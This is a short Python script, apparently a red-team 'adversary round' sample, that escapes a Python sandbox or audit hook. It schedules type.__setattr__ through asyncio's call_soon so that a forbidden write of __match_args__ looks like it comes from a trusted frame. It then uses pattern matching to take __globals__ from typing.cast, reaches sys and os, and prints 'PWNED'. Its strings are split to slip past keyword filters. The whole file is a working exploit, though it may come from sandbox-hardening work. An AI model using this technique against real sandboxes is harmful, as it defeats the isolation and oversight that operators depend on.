# adversary round 7: variant of 005 with a third trusted caller: loop.call_soon(type.__setattr__, ...) runs the C slot from asyncio's Handle._run frame, so the dunder write (__match_args__) passes the audit hook; then case P(g) reads __globals__
import abc, asyncio, typing

class P(abc.ABC):
    pass

async def main():
    loop = asyncio.get_running_loop()
    loop.call_soon(type.__setattr__, P, '__match_' + 'args__', ('__glo' + 'bals__',))
    await asyncio.sleep(0)

asyncio.run(main())
P.register(type(typing.cast))
match typing.cast:
    case P(g):
        s = g['s' + 'ys']
        print(s.__name__, 'pid', s.modules['o' + 's'].getpid())
        print('PWN' + 'ED')
    case _:
        print('no match')
